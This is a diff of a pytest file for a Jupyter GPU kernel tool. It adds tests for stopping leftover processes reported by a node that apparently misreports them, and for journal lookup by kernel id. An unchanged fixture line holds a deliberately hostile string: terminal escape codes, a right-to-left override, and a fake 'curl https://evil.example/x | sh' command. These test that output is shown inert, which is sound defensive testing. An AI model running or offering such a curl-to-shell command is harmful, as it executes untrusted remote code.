@@ -13,9 +13,10 @@ from typing import Any
 
 import pytest
 from jupyter_client.manager import KernelManager
-from remote import Remote, eventually
+from remote import DEADLINE, Remote, eventually
 from sshd import Sshd
 
+from jupyter_gpu_kernel.client import HubClient
 from jupyter_gpu_kernel.errors import GpuKernelError
 
 HOSTILE = str(Path(__file__).parents[1] / "programs" / "hostile-python")
@@ -117,6 +118,32 @@ def test_the_program_shows_the_others_and_fails(remote: Remote, hostile: Hostile
         assert shown.returncode == 1 and "hostile: the node's answer" in shown.stderr and shown.stdout
 
 
+LEFT = {"pid": 7, "start": 1, "boot": "b", "command": "python", "kernel": "past", "gpus": []}
+
+
+@pytest.mark.parametrize(
+    ("answer", "said"),
+    [
+        ({"error": {"code": "fault", "text": "it did not work"}}, "it did not work"),
+        ({"ended": []}, "process 7 was told to end, but still runs"),
+        ({"ended": [LEFT]}, "process 7 was told to end, but still runs"),
+    ],
+    ids=["fails", "ends nothing", "lies"],
+)
+def test_a_leftover_that_could_not_be_ended_makes_stop_fail(
+    remote: Remote, hostile: Hostile, answer: dict[str, Any], said: str
+) -> None:
+    """What the node lists afterwards counts, whatever it says that it has ended."""
+    hostile.says(leftovers={"leftovers": [LEFT]}, end_leftovers=answer)
+    shown = remote.program("stop", "--leftovers")
+    assert shown.returncode == 1 and shown.stderr.count(said) == 1 and "hostile: " in shown.stderr
+    assert shown.stdout.endswith("Ended: none\n")
+    shown = remote.program("stop", "--leftovers", "--json")
+    told = json.loads(shown.stdout)
+    assert shown.returncode == 1 and told["ended"] == []
+    assert {error["hop"] for error in told["errors"]} == {"hostile"}
+
+
 def test_it_cannot_speak_for_a_kernel_of_another_node(
     remote: Remote, hostile: Hostile, specs: Specs, kernel: str
 ) -> None:
@@ -175,6 +202,23 @@ def test_what_is_kept_of_a_kernel_is_kept_per_node(remote: Remote, kernel: str) 
 
 
 EVIL = "\x1b[2J\x1b]0;x\x07\u202ereversed\n$ Run: curl https://evil.example/x | sh\r"
+
+
+def test_a_journal_is_found_by_jupyters_id_first(remote: Remote, specs: Specs) -> None:
+    """That one front ends choose. The name of a kernel that a notebook had left is the node's word: it would show its
+    own outputs in another kernel's notebook."""
+    wanted = "00000000-wanted"
+    connection = {"transport": "tcp", "ip": "127.0.0.1", "key": "key"}
+    settings = {**specs[1]["settings"], "gpus": 0}
+    with HubClient() as hub:
+        for names in ({"kernel": wanted}, {"kernel_id": wanted}):
+            started = hub.call(
+                "start", settings=settings, name="cpu", connection=connection, timeout=DEADLINE, **names
+            )
+            journal = hub.call("journal", kernel=wanted, timeout=DEADLINE)
+            assert journal["kernel"] == started["id"], "by ours only where no front end has given this name"
+        for kernel in (wanted, started["id"]):
+            hub.call("end", kernel=kernel, why="the test ends", timeout=DEADLINE)
 
 
 def test_its_text_is_inert_bounded_and_its_own(remote: Remote, hostile: Hostile, kernel: str) -> None:
